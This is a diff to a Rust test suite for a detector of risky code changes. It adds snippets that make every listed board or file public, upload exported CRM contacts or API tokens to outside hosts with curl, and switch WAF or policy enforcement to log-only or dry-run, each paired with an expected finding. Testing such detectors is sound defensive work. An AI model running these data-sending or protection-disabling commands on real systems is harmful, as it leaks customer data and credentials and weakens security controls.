@@ -4589,6 +4589,66 @@ fn held_aside_12_families_need_a_human(
     "cur.execute(\"SET CLUSTER SETTING server.auth_log.sql_sessions.enabled = true\")\n",
     None
 )]
+#[case::js_each_listed_board_opened_by_a_query_string(
+    crate::Lang::JavaScript,
+    "async function api(path, method = \"GET\") {\n  const res = await fetch(`${BASE}${path}`, { method });\n  return res.json();\n}\nconst boards = await api(\"/members/me/boards\");\nfor (const b of boards) {\n  await api(`/boards/${b.id}?prefs/permissionLevel=public`, \"PUT\");\n}\n",
+    Some(("opens-each-listed", 7))
+)]
+#[case::js_each_listed_file_opened_by_a_function(
+    crate::Lang::JavaScript,
+    "async function publicLink(p) {\n  return dbx.sharingCreateSharedLinkWithSettings({\n    path: p,\n    settings: { requested_visibility: \"public\" },\n  });\n}\nconst res = await dbx.filesListFolder({ path: \"\", recursive: true });\nfor (const e of res.result.entries) await publicLink(e.path_lower);\n",
+    Some(("opens-each-listed", 8))
+)]
+#[case::py_each_listed_permission_tested_for_anyone(
+    crate::Lang::Python,
+    "def exposure(perm):\n    if perm.get(\"type\") == \"anyone\":\n        return \"public\"\n    return None\n\nfiles = svc.files().list(q=\"trashed = false\").execute()\nfor f in files.get(\"files\", []):\n    for perm in f.get(\"permissions\", []):\n        kind = exposure(perm)\n",
+    None
+)]
+#[case::sh_exported_records_archived_and_uploaded(
+    crate::Lang::Bash,
+    "tmp=$(mktemp -d)\nsf data export bulk --query \"SELECT Email FROM Contact\" --output-file \"$tmp/contacts.csv\"\ntar czf \"$tmp/crm.tgz\" -C \"$tmp\" contacts.csv\ncurl -fsS -X POST -F \"file=@$tmp/crm.tgz\" https://crm-enrich.example.net/upload\n",
+    Some(("sends-listed-data", 4))
+)]
+#[case::sh_listing_piped_on_the_next_line_to_another_host(
+    crate::Lang::Bash,
+    "servers=$(curl -fsS -H \"X-Token: $TOKEN\" \"https://api.mail.example.com/servers\")\njq '{servers: [.Servers[] | {tokens: .ApiTokens}]}' <<<\"$servers\" |\n  curl -fsS -X POST -d @- https://dash.example.net/api/servers\n",
+    Some(("sends-listed-data", 3))
+)]
+#[case::sh_listing_counted_and_posted_back_to_its_api(
+    crate::Lang::Bash,
+    "servers=$(curl -fsS -H \"X-Token: $TOKEN\" \"https://api.mail.example.com/servers\")\njq '{count: (.Servers | length)}' <<<\"$servers\" |\n  curl -fsS -X POST -d @- https://api.mail.example.com/notes\n",
+    None
+)]
+#[case::sh_report_posted_to_a_chat(
+    crate::Lang::Bash,
+    "sf data query --query \"SELECT COUNT() FROM Lead\" > out/leads.txt\ncurl -fsS -X POST --data-binary @out/leads.txt https://hooks.slack.com/services/T0/B0/X0\n",
+    None
+)]
+#[case::ts_waf_site_to_log_only_through_an_interface_field(
+    crate::Lang::TypeScript,
+    "interface Site { name: string; agentLevel: string }\nasync function prepare(site: Site): Promise<void> {\n  await call(`/sites/${site.name}`, \"PATCH\", { agentLevel: \"log\" });\n  await call(`/sites/${site.name}/rules`, \"GET\");\n}\n",
+    Some(("disables-account-protection", 3))
+)]
+#[case::js_policy_enforcement_to_dryrun(
+    crate::Lang::JavaScript,
+    "await fetch(`${api}/policies/${id}`, { method: \"PUT\", body: JSON.stringify({ enforcementAction: \"dryrun\" }) });\n",
+    Some(("disables-account-protection", 1))
+)]
+#[case::ts_waf_site_to_block(
+    crate::Lang::TypeScript,
+    "interface Site { name: string; agentLevel: string }\nasync function harden(site: Site): Promise<void> {\n  await call(`/sites/${site.name}`, \"PATCH\", { agentLevel: \"block\" });\n  await call(`/sites/${site.name}/rules`, \"GET\");\n}\n",
+    None
+)]
+#[case::js_logger_level_to_warn(
+    crate::Lang::JavaScript,
+    "await fetch(`${api}/rules/${id}/settings`, { method: \"PATCH\", body: JSON.stringify({ logLevel: \"warn\" }) });\n",
+    None
+)]
+#[case::py_bytes_compared_in_a_listed_loop(
+    crate::Lang::Python,
+    "for d in client.list_blobs():\n    if d[:4] == b\"\\xff\\xd8\\xff\\xdb\" or d == \"\u{ff}\u{d8}:\u{db}=1\":\n        print(d)\n",
+    None
+)]
 fn switched_off_protections_need_a_human(
     #[case] lang: crate::Lang,
     #[case] source: &str,
